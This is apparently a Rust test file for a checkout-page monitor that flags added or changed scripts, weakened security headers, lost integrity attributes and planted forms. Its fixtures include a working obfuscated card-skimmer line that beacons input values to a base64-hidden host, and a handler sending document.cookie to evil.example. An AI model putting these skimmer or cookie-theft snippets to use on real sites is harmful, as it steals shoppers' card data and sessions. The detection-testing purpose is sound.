use riskgraph_domain::Severity::{Critical, High, Low, Medium};

use super::*;
use crate::snapshot::Visit;

const HEADERS: &[(&str, &str)] = &[
    (
        "content-security-policy",
        "script-src 'self' 'nonce-r4nd0m' https://js.psp.example; frame-src https://js.psp.example",
    ),
    ("strict-transport-security", "max-age=31536000; includeSubDomains"),
    ("x-frame-options", "DENY"),
];

type Headers = Vec<(&'static str, &'static str)>;

/// A page with these tags after the usual ones, and the texts of its scripts.
struct PageOf<'a> {
    tags: &'a str,
    headers: &'a [(&'a str, &'a str)],
    bodies: &'a [(&'a str, &'a str)],
}

const APP: &str = "function pay(f){return fetch('/api/pay',{method:'POST',body:new FormData(f)})}";

fn look(day: i64, page: &PageOf<'_>) -> Snapshot {
    let html = format!(
        "<html><head><script nonce='n{day}'>window.cfg={{\"token\":\"t{day}\",\"time\":17000{day}}}</script>{}</head>
        <body><form action='/pay' method=post><input name=cardnumber></form>
        <iframe src='https://js.psp.example/v3/frame?session=s{day}x81fa6629'></iframe></body></html>",
        page.tags
    );
    let headers: Vec<(String, String)> = page
        .headers
        .iter()
        .map(|(name, value)| ((*name).to_owned(), value.replace("r4nd0m", &format!("n{day}"))))
        .collect();
    let at = Timestamp(1_770_000_000_000 + day * DAY_MS);
    let visit = Visit { url: "https://shop.example/checkout", at, status: 200, headers: &headers, html: &html };
    Snapshot::read(visit, |url| page.bodies.iter().find(|(known, _)| url == *known).map(|(_, text)| *text))
}

const TAGS: &str =
    "<script src='/static/app.3f9a2c1b.js?v=17'></script><script src='https://js.psp.example/v3/psp.js'></script>";
const BODIES: &[(&str, &str)] = &[
    ("https://shop.example/static/app.3f9a2c1b.js?v=17", APP),
    (
        "https://js.psp.example/v3/psp.js",
        "window.psp={frame:function(u){var f=document.createElement('iframe');f.src='https://js.psp.example/'+u;return f}}",
    ),
];

fn usual() -> PageOf<'static> {
    PageOf { tags: TAGS, headers: HEADERS, bodies: BODIES }
}

/// What is told of a page that follows the usual one.
fn told(page: &PageOf<'_>) -> Vec<(ChangeKind, Severity)> {
    let mut ledger = Ledger::new("//shop.example/checkout");
    assert_eq!(ledger.observe(&look(0, &usual())), []);
    assert_eq!(ledger.observe(&look(1, &usual())).iter().filter(|change| change.told).count(), 0);
    ledger
        .observe(&look(2, page))
        .into_iter()
        .filter(|change| change.told)
        .map(|change| (change.kind, change.severity))
        .collect()
}

#[test]
fn what_pages_do_all_the_time_is_quiet() {
    let quiet = |tags: &str, bodies: &[(&str, &str)]| {
        let page = PageOf { tags, headers: HEADERS, bodies };
        assert_eq!(told(&page), [], "{tags}");
    };
    let psp = BODIES[1];
    // A new build under a new name: it does what the old one did.
    let build = "function pay(form){console.log(1);return fetch('/api/pay',{method:'POST',body:new FormData(form)})}";
    quiet(
        "<script src='/static/app.99bc01de.js?v=18'></script><script src='https://js.psp.example/v3/psp.js'></script>",
        &[("https://shop.example/static/app.99bc01de.js?v=18", build), psp],
    );
    // Another number against caches.
    quiet(
        "<script src='https://js.psp.example/v3/psp.js?_=1700000001'></script><script src='/static/app.3f9a2c1b.js?v=99'></script>",
        &[
            ("https://shop.example/static/app.3f9a2c1b.js?v=99", APP),
            ("https://js.psp.example/v3/psp.js?_=1700000001", psp.1),
        ],
    );
    // A script that is gone.
    quiet("<script src='https://js.psp.example/v3/psp.js'></script>", &[psp]);
}

#[test]
fn arms_of_an_experiment_are_quiet_once_seen() {
    let mut ledger = Ledger::new("x");
    let arm = |day: i64, name: &str, code: &str| {
        let url = format!("https://shop.example/exp/hero-{name}.js");
        let tags = format!("{TAGS}<script src='{url}'></script><script>window.arm='{name}'</script>");
        let bodies = [BODIES[0], BODIES[1], (url.as_str(), code)];
        look(day, &PageOf { tags: &tags, headers: HEADERS, bodies: &bodies })
    };
    let (a, b) = ("document.title='a'", "document.title='b';document.body.className='wide'");
    let mut n_told = 0;
    for (day, (name, code)) in [("a", a), ("b", b), ("a", a), ("b", b), ("b", b), ("a", a)].into_iter().enumerate() {
        n_told += ledger.observe(&arm(day as i64, name, code)).iter().filter(|change| change.told).count();
    }
    assert_eq!(n_told, 0, "{:#?}", ledger.changes);
}

#[test]
fn planted_changes_are_told() {
    let skimmer = "document.querySelectorAll('input').forEach(function(i){i.addEventListener('blur',function(){navigator.sendBeacon(atob('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2c='),i.value)})})";
    let check = |tags: &str, bodies: &[(&str, &str)], want: &[(ChangeKind, Severity)]| {
        let page = PageOf { tags, headers: HEADERS, bodies };
        let got = told(&page);
        for wanted in want {
            assert!(got.contains(wanted), "{wanted:?} not in {got:?}: {tags}");
        }
    };
    let with = |tag: &str| format!("{TAGS}{tag}");
    check(&with("<script src='https://stats.evil.example/a.js'></script>"), BODIES, &[(ChangeKind::ScriptAdded, High)]);
    check(
        &with("<script src='https://googletagmanagar.com/gtm.js'></script>"),
        BODIES,
        &[(ChangeKind::ScriptAdded, Critical)],
    );
    check(&with("<script src='/static/stats.js'></script>"), BODIES, &[(ChangeKind::ScriptAdded, Medium)]);
    check(
        &with(&format!("<script>{skimmer}</script>")),
        BODIES,
        &[(ChangeKind::Skimmer, Critical), (ChangeKind::ScriptAdded, High)],
    );
    check(&with("<script>var injected=1</script>"), BODIES, &[(ChangeKind::ScriptAdded, Low)]);
    let changed = format!("{APP};{skimmer}");
    check(
        TAGS,
        &[(BODIES[0].0, &changed), BODIES[1]],
        &[(ChangeKind::Skimmer, Critical), (ChangeKind::ScriptChanged, High)],
    );
    // The same under the name of a new build.
    let build = TAGS.replace("3f9a2c1b", "77bc01de");
    check(
        &build,
        &[("https://shop.example/static/app.77bc01de.js?v=17", &changed), BODIES[1]],
        &[(ChangeKind::Skimmer, Critical)],
    );
    let other = format!("{APP};document.title='x'");
    check(TAGS, &[(BODIES[0].0, &other), BODIES[1]], &[(ChangeKind::ScriptChanged, Medium)]);
    check(&with("<img src='https://pixel.evil.example/p.gif'>"), BODIES, &[(ChangeKind::HostAdded, Medium)]);
    check(
        &with("<form action='https://evil.example/c'><input name=ccnum></form>"),
        BODIES,
        &[(ChangeKind::FormAdded, Critical)],
    );
    check(&with("<iframe src='https://pay.evil.example/'></iframe>"), BODIES, &[(ChangeKind::FrameAdded, High)]);
    check(&with("<base href='https://evil.example/'>"), BODIES, &[(ChangeKind::MoveAdded, High)]);
    check(
        &with("<div onmouseover=\"new Image().src='//evil.example/'+document.cookie\">"),
        BODIES,
        &[(ChangeKind::ScriptAdded, High)],
    );
}

#[test]
fn headers_are_told_by_the_way_they_go() {
    let with = |change: &dyn Fn(&mut Headers)| {
        let mut headers = HEADERS.to_vec();
        change(&mut headers);
        told(&PageOf { headers: &headers, ..usual() })
    };
    let header = |severity: Severity| vec![(ChangeKind::HeaderChanged, severity)];
    assert_eq!(
        with(&|headers| {
            headers.remove(0);
        }),
        header(High)
    );
    assert_eq!(with(&|headers| headers[0].1 = "script-src * 'nonce-r4nd0m'"), header(High));
    assert_eq!(with(&|headers| headers[1].1 = "max-age=63072000; includeSubDomains; preload"), header(Low));
    assert_eq!(with(&|headers| headers[2].1 = "SAMEORIGIN"), header(High));
    assert_eq!(with(&|headers| headers.push(("referrer-policy", "no-referrer"))), header(Low));
    assert_eq!(with(&|headers| headers.push(("x-request-id", "17"))), []);
    assert_eq!(with(&|headers| headers.reverse()), []);
}

#[test]
fn what_could_not_be_seen_changes_nothing() {
    let mut ledger = Ledger::new("x");
    ledger.observe(&look(0, &usual()));
    let before = ledger.scripts.clone();
    let unseen = Snapshot::unseen("https://shop.example/checkout", Timestamp(1_770_000_000_000 + DAY_MS), "a bot wall");
    let changes = ledger.observe(&unseen);
    assert!(changes.iter().all(|change| !change.told && change.kind == ChangeKind::Unseen));
    assert_eq!(ledger.scripts, before);
    let now = |day: i64| Timestamp(1_770_000_000_000 + day * DAY_MS);
    assert_eq!((ledger.overdue_days(now(7)), ledger.overdue_days(now(9))), (None, Some(9)));
    // An older look comes late.
    ledger.observe(&look(5, &usual()));
    let n = ledger.n_looks;
    assert_eq!(ledger.observe(&look(3, &PageOf { tags: "", ..usual() })), []);
    assert_eq!(ledger.n_looks, n);
}

#[test]
fn a_suspect_version_is_told_again_and_authorisation_calms_it() {
    let mut ledger = Ledger::new("x");
    let evil = PageOf { tags: &format!("{TAGS}<script src='https://stats.evil.example/a.js'></script>"), ..usual() };
    let bodies = [BODIES[0], BODIES[1], ("https://stats.evil.example/a.js", "fetch('https://stats.evil.example/p')")];
    let evil = PageOf { bodies: &bodies, ..evil };
    let told = |ledger: &mut Ledger, day: i64, page: &PageOf<'_>| {
        ledger.observe(&look(day, page)).iter().filter(|change| change.told).count()
    };
    told(&mut ledger, 0, &usual());
    assert_eq!(told(&mut ledger, 1, &evil), 1);
    assert_eq!(told(&mut ledger, 2, &evil), 0);
    assert_eq!(told(&mut ledger, 3, &usual()), 0);
    assert_eq!(told(&mut ledger, 4, &evil), 1);
    let authorisation = Authorisation { by: "mia".into(), at: Timestamp(0), justification: "statistics".into() };
    assert_eq!(ledger.authorise("https://stats.evil.example/a.js", &authorisation), 1);
    told(&mut ledger, 5, &usual());
    assert_eq!(told(&mut ledger, 6, &evil), 0);
    let json = serde_json::to_string(&ledger).expect("JSON");
    assert_eq!(serde_json::from_str::<Ledger>(&json).expect("a ledger"), ledger);
}

#[test]
fn lost_integrity_is_told() {
    let tags = |integrity: &str| format!("{TAGS}<script src='https://cdn.lib.example/l.js' {integrity}></script>");
    let mut ledger = Ledger::new("x");
    ledger.observe(&look(0, &PageOf { tags: &tags("integrity='sha384-abc'"), ..usual() }));
    let changes = ledger.observe(&look(1, &PageOf { tags: &tags(""), ..usual() }));
    assert_eq!(
        changes.iter().filter(|change| change.told).map(|change| (change.kind, change.severity)).collect::<Vec<_>>(),
        [(ChangeKind::IntegrityLost, High)]
    );
}
